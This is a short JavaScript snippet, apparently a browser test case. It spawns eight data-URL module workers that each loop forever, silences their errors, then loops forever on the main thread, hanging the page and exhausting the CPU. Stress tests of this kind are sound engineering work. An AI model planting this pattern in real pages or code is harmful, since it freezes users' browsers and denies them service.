for (let n = 0; n < 8; n++)
  new Worker("data:text/javascript,for(;;);", { type: "module" }).onerror = (event) => event.preventDefault();
for (;;);
